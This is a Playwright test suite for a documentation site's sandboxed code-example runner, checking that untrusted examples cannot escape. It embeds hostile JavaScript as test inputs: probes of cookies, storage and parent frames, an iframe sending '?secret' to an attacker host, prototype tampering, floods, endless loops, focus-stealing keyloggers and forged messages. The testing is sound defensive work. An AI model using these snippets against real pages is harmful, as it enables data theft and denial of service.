import type { Environment } from '@funtool-docs/content/codeBlocks';
import type { BrowserContext, Page } from '@playwright/test';
import type { RunEvent } from '@funtool-docs/runner/evaluator/events';
import { connectToAll, listen, prepareConnections } from './attacker';
import { expect, test as base } from './fixtures';
import { openHarness, runInSandbox } from './runInSandbox';
import { addressVariable } from '../fixtures/names';

const ENVIRONMENTS: Environment[] = ['worker', 'document'];

const HARMLESS = '1 + 1; // => 2';

/**
 * One page for all tests of a worker, since each run has its own sandbox. Console errors and
 * requests do not fail it: browsers report each blocked attempt. Its profile is persistent, as
 * Chromium preconnects only with one.
 */
const test = base.extend<object, { harness: Page }>({
  harness: [
    async ({ playwright, browserName, launchOptions }, use) => {
      const context = await playwright[browserName].launchPersistentContext('', {
        ...launchOptions,
        baseURL: process.env[addressVariable('options')]!,
        serviceWorkers: 'block',
      });
      const page = await context.newPage();
      await openHarness(page);
      await use(page);
      await context.close();
    },
    { scope: 'worker' },
  ],
});

test.use({ site: 'options' });

/** Runs an attack, then a harmless example with the same runner, whose result must be unaffected. */
async function attack(page: Page, environment: Environment, code: string): Promise<RunEvent[]> {
  const [events, next] = await runInSandbox(page, environment, code, HARMLESS);
  expect(next!.map(({ type }) => type)).toEqual(['result', 'finished']);
  expect(next![0]).toMatchObject({ ok: true, actual: { summary: '2' } });
  return events!;
}

/** Returns the output of an example. */
const printed = (events: RunEvent[]) =>
  events.flatMap((event) =>
    event.type === 'console' ? (event.text.details ?? event.text.summary) : [],
  );

test('reports what happens, in order, with lines, in a worker and in a document', async ({
  harness: page,
}) => {
  for (const environment of ENVIRONMENTS) {
    const [events] = await runInSandbox(
      page,
      environment,
      [
        "import { unique } from 'funtool/array';",
        'unique([1, 1]); // => [1]',
        'unique([2, 2]); // => [1]',
        'await Promise.resolve(new Map([[1, { a: [] }]]));',
        "const print = (n: number) => console.warn('%d', n);",
        'print(3);',
        "setTimeout(() => console.log('late'), 20);",
        'if (false) {',
        '  1; // => 1',
        '}',
        'null.length;',
      ].join('\n'),
    );
    expect(events).toEqual([
      result(2, '[ 1 ]', { expected: '[1]', ok: true }),
      result(3, '[ 2 ]', { expected: '[1]', ok: false }),
      result(4, 'Map(1) { 1 => { a: [] } }'),
      { type: 'console', level: 'warn', line: 5, text: { summary: '3' }, time },
      { type: 'error', line: 11, message: expect.stringContaining('TypeError: '), time },
      { type: 'console', level: 'log', line: 7, text: { summary: 'late' }, time },
      { type: 'unreached', line: 9, expected: '1', time },
      { type: 'finished', time },
    ]);
  }
});

test('gives nothing of the site, in a worker and in a document', async ({ harness: page }) => {
  for (const environment of ENVIRONMENTS) {
    const events = await attack(
      page,
      environment,
      `const tries = {
         origin: () => self.origin,
         localStorage: () => localStorage.length,
         sessionStorage: () => sessionStorage.length,
         cookie: () => { document.cookie = 'a=1'; return document.cookie; },
         indexedDB: () => new Promise((resolve, reject) => {
           const request = indexedDB.open('a');
           request.onsuccess = resolve;
           request.onerror = () => reject(request.error);
         }),
         caches: () => caches.open('a'),
         serviceWorker: () => navigator.serviceWorker.register('/funtool/sw.js'),
         parent: () => parent === self ? undefined : parent.document,
         top: () => top.document,
         frameElement: () => { if (frameElement) return frameElement; },
         opener: () => { if (opener) return opener; },
         open: () => { if (open('about:blank')) return 'a window'; },
         event: () => { if (self.event) return self.event; },
         port: () => { if (self.postMessage && !self.document) return 'a way to the document'; },
       };
       for (const [name, run] of Object.entries(tries)) {
         try {
           const value = await run();
           if (value !== undefined) console.log(name, value);
         } catch {}
       }`,
    );
    expect(printed(events)).toEqual(['origin null']);
    expect(events.at(-1)!.type).toBe('finished');
  }
});

test('lets code connect to nobody, in a worker and in a document', async ({ harness: page }) => {
  for (const environment of ENVIRONMENTS) {
    const attacker = await listen();
    const events = await attack(page, environment, connectToAll(attacker.host));
    expect(printed(events)).toEqual(['all tried']);
    // What a document prepares: see below.
    if (environment === 'worker') {
      await attack(page, environment, `try { ${prepareConnections(attacker.host)} } catch {}`);
    }
    expect(attacker.connections()).toBe(0);
    attacker.close();
  }
});

test('keeps what is thrown, whatever it says of its line, in a worker and in a document', async ({
  harness: page,
}) => {
  for (const environment of ENVIRONMENTS) {
    const code = `const error = new Error('made up');
      error.stack = 'example.js:99999999999999999999:1';
      setTimeout(() => { throw error; });
      setTimeout(() => {
        throw Object.defineProperty(new Error(), 'message', { get() { throw 1; } });
      }, 20);
      throw error;`;
    const events = await attack(page, environment, code);
    expect(events.flatMap((event) => (event.type === 'error' ? event.message : []))).toEqual([
      'Error: made up',
      'Error: made up',
      '<an error that cannot be printed>',
    ]);
    expect(events.at(-1)!.type).toBe('finished');
  }
});

test('ends a flood, in a worker and in a document', async ({ harness: page }) => {
  for (const environment of ENVIRONMENTS) {
    const floods = [
      'while (true) console.log(1);',
      "while (true) console.log('x'.repeat(1e6));",
      "for (let n = 0; n < 5000; n += 1) setTimeout(() => { throw new Error('x'.repeat(1e5)); });",
    ];
    for (const flood of floods) {
      const events = await attack(page, environment, flood);
      expect(events.at(-1)).toMatchObject({ type: 'stopped', reason: 'output' });
      expect(events.length).toBeLessThan(1100);
      expect(JSON.stringify(events).length).toBeLessThan(1_000_000);
    }
  }
});

test('is not broken by what runs, in a worker and in a document', async ({ harness: page }) => {
  for (const environment of ENVIRONMENTS) {
    const tampering = `
      const hostile = () => { throw new Error('tampered'); };
      for (const owner of [Array, String, Map, Set, Promise, Function, Object, RegExp]) {
        for (const name of Object.getOwnPropertyNames(owner.prototype)) {
          try {
            Object.defineProperty(owner.prototype, name, { get: hostile, configurable: true });
          } catch {}
        }
      }
      for (const name of Object.getOwnPropertyNames(self)) {
        try { self[name] = hostile; } catch {}
      }
      for (const owner of [self.MessagePort, self.EventTarget, self.Worker, self.Node]) {
        if (owner) owner.prototype.postMessage = owner.prototype.addEventListener = hostile;
      }`;
    const values = `
      new Proxy({}, { ownKeys() { throw new Error('no'); } });
      ({ [Symbol.for('nodejs.util.inspect.custom')]() { throw new Error('no'); } });
      ({ get [Symbol.toStringTag]() { throw new Error('no'); } });
      ({ get a() { throw new Error('no'); } });
      console.log('%s', { toString() { throw new Error('no'); } });`;
    const [tampered, printedValues] = await runInSandbox(page, environment, tampering, values);
    expect(tampered!.at(-1)!.type).toBe('finished');
    expect(printedValues!.at(-1)!.type).toBe('finished');
    expect(printedValues!.filter(({ type }) => type === 'error')).toEqual([]);
    await attack(page, environment, values);
  }
});

test('ends what would never end, while the page goes on', async ({ harness: page }) => {
  const endless = [
    'for (;;) { try { while (true); } catch {} }',
    'const again = () => Promise.resolve().then(again); again();',
  ];
  const isEnd = { type: 'stopped', reason: 'time', time };
  const workers = Promise.all(endless.map((code) => attack(page, 'worker', code)));
  const turns = page.evaluate(async () => {
    for (let count = 0; count < 20; count += 1) await new Promise(requestAnimationFrame);
    return document.querySelectorAll('iframe').length;
  });
  expect(await turns).toBe(endless.length);
  for (const events of await workers) expect(events.at(-1)).toEqual(isEnd);
  // Serial: documents may share a process, in which one blocks the others.
  expect((await attack(page, 'document', endless[0]!)).at(-1)).toEqual(isEnd);
  await expect(page.locator('iframe')).toHaveCount(0);
});

// Known limit, named in docs-dev/security.md: neither CSP nor sandbox covers these.
test(
  'cannot keep a document from preparing connections, on which nothing is said @whole',
  { tag: '@chromium' },
  async ({ harness: page }) => {
    const attacker = await listen();
    await attack(page, 'document', prepareConnections(attacker.host));
    expect(attacker.connections()).toBeGreaterThan(0);
    expect(attacker.received()).toBe('');
    attacker.close();
  },
);

test('ends code that takes the focus, and gives it back', async ({
  harness: page,
  browserName,
}) => {
  await page.evaluate(() => {
    const field = Object.assign(document.createElement('input'), { id: 'field' });
    document.body.append(field);
    field.focus();
  });
  const taking = `document.body.innerHTML = '<textarea></textarea>';
    const field = document.querySelector('textarea');
    addEventListener('keydown', (event) => console.log(event.key));
    setInterval(() => { window.focus(); field.focus(); }, 1);
    await new Promise((resolve) => setTimeout(resolve, 1000));`;
  const events = await attack(page, 'document', taking);
  // Only Chromium lets a frame take the focus; elsewhere the code has no effect.
  expect(events.at(-1)).toMatchObject(
    browserName === 'chromium' ? { type: 'stopped', reason: 'focus' } : { type: 'finished' },
  );
  await page.keyboard.type('all of it');
  expect(await page.locator('#field').inputValue()).toBe('all of it');
  await page.locator('#field').evaluate((field) => field.remove());
});

// Other browsers do not limit the memory of a page.
test('ends an endless allocation', { tag: '@chromium' }, async ({ harness: page }) => {
  const code = 'const list = []; while (true) list.push(new Array(1e5).fill(7));';
  const events = await attack(page, 'worker', code);
  expect(events.at(-1)).toMatchObject({ type: 'stopped', reason: 'time' });
});

// A browser may preconnect for a navigation that it then blocks, but sends no data.
test('sends nobody a request by going elsewhere', async ({ harness: page }) => {
  const attacker = await listen();
  const address = page.url();
  const refused = page.waitForEvent('console', (message) => /frame-src/.test(message.text()));
  const code = `
    const frame = document.createElement('iframe');
    frame.src = 'http://${attacker.host}/?secret';
    document.body.append(frame);
    location.href = frame.src;
    await new Promise(() => {});`;
  const run = runInSandbox(page, 'document', code);
  await refused;
  expect(attacker.received()).toBe('');
  expect(page.url()).toBe(address);
  await page.evaluate(() => document.querySelector('iframe')!.remove());
  expect((await run)[0]!.at(-1)).toMatchObject({ type: 'stopped' });
  attacker.close();
});

test('believes nobody but the sandbox of the run', async ({ harness: page }) => {
  const forged = { type: 'result', kind: 'value', line: 1, actual: { summary: 'forged' }, time: 1 };
  const forging = `for (const target of [parent, top]) {
    target.postMessage(${JSON.stringify(forged)}, '*');
    target.postMessage({ type: 'finished', time: 1 }, '*');
  }
  await new Promise((resolve) => setTimeout(resolve, 100));`;
  const [other] = await Promise.all([
    page.waitForEvent('popup'),
    page.evaluate(() => void window.open('about:blank')),
  ]);
  const run = runInSandbox(page, 'document', forging, HARMLESS);
  await other.evaluate((message) => {
    for (let count = 0; count < 100; count += 1) opener.postMessage(message, '*');
  }, forged);
  const [events, next] = await run;
  expect(JSON.stringify(events)).not.toContain('forged');
  expect(events!.at(-1)!.time).toBeGreaterThan(100);
  expect(next!.map(({ type }) => type)).toEqual(['result', 'finished']);
  await other.close();
});

test('runs nothing where its document has the origin of the site', async ({ harness: page }) => {
  const answered = await page.evaluate(async () => {
    const runner = window.createRunner();
    runner.run({ code: '1', environment: 'document' }, () => {});
    const { src } = document.querySelector('iframe')!;
    runner.stop();
    const answers: string[] = [];
    /** Sends an example to the document in a frame and resolves with its first message. */
    const ask = async (sandbox: string) => {
      const frame = document.createElement('iframe');
      if (sandbox) frame.setAttribute('sandbox', sandbox);
      frame.src = src;
      await new Promise((resolve) => {
        frame.addEventListener('load', resolve);
        document.body.append(frame);
      });
      const { port1, port2 } = new MessageChannel();
      const answer = new Promise((resolve) => {
        port1.addEventListener('message', resolve);
        port1.start();
      });
      frame.contentWindow!.postMessage({ code: '1', environment: 'document' }, '*', [port2]);
      return { frame, answer: answer.then(() => answers.push(sandbox)) };
    };
    const frames = [await ask(''), await ask('allow-scripts allow-same-origin')];
    frames.push(await ask('allow-scripts'));
    await frames.at(-1)!.answer;
    for (const { frame } of frames) frame.remove();
    return answers;
  });
  expect(answered).toEqual(['allow-scripts']);
});

/** A forged sandbox document: it receives the port and posts arbitrary messages. */
const IMPOSTORS = {
  'says too much': `for (let n = 0; n < 5000; n += 1) {
    port.postMessage({ type: 'console', level: 'log', text: { summary: 'x' }, time: 1 });
  }`,
  'says what has no shape': `for (const data of [null, 1, [], {}, { type: 'unavailable', time: 1 },
    { type: 'finished', time: NaN }, { type: 'stopped', reason: 'reader', time: 1 },
    { type: 'error', message: 'x'.repeat(1e6), time: 1 }, { type: 'constructor', time: 1 }]) {
    port.postMessage(data);
  }
  port.postMessage({ type: 'finished', time: 1, more: 1 });`,
};

test('bears a sandbox that is not ours', async ({ context }) => {
  const [flood, nonsense] = Object.values(IMPOSTORS).map((code) => runImpostor(context, code));
  const flooded = await flood!;
  expect(flooded.at(-1)).toMatchObject({ type: 'stopped', reason: 'output' });
  expect(flooded.length).toBeLessThan(1100);
  expect(await nonsense!).toEqual([{ type: 'finished', time: 1 }]);
});

// Where a deployment has replaced it: runExample.spec.ts.
test('says so where the sandbox cannot be loaded', async ({ context }) => {
  const page = await context.newPage();
  await page.clock.install();
  await page.route('**/runner/*.html', (route) => route.abort());
  await openHarness(page);
  const run = runInSandbox(page, 'worker', HARMLESS);
  await page.waitForEvent('requestfailed');
  await page.clock.runFor(30_000);
  expect(await run).toEqual([[{ type: 'unavailable', isOutdated: false, time }]]);
});

test('stops when the reader wants it, and starts anew', async ({ harness: page }) => {
  const [first, second] = await page.evaluate(async (code) => {
    const runner = window.createRunner();
    const events: RunEvent[][] = [[], []];
    runner.run({ code: 'while (true);', environment: 'worker' }, (event) => events[0]!.push(event));
    await new Promise<void>((resolve) => {
      runner.run({ code, environment: 'worker' }, (event) => {
        events[1]!.push(event);
        if (event.type === 'finished') resolve();
      });
    });
    runner.stop();
    return events;
  }, HARMLESS);
  expect(first).toEqual([{ type: 'stopped', reason: 'reader', time }]);
  expect(second!.map(({ type }) => type)).toEqual(['result', 'finished']);
});

const time = expect.any(Number);

const result = (line: number, summary: string, stated = {}) => ({
  type: 'result',
  kind: 'value',
  line,
  actual: { summary },
  ...stated,
  time,
});

async function runImpostor(context: BrowserContext, code: string): Promise<RunEvent[]> {
  const impostor = await context.newPage();
  await impostor.route('**/runner/*.html', (route) =>
    route.fulfill({
      contentType: 'text/html',
      body: `<script>onmessage = ({ ports: [port] }) => { ${code} };</script>`,
    }),
  );
  await openHarness(impostor);
  const [events] = await runInSandbox(impostor, 'worker', HARMLESS);
  return events!;
}
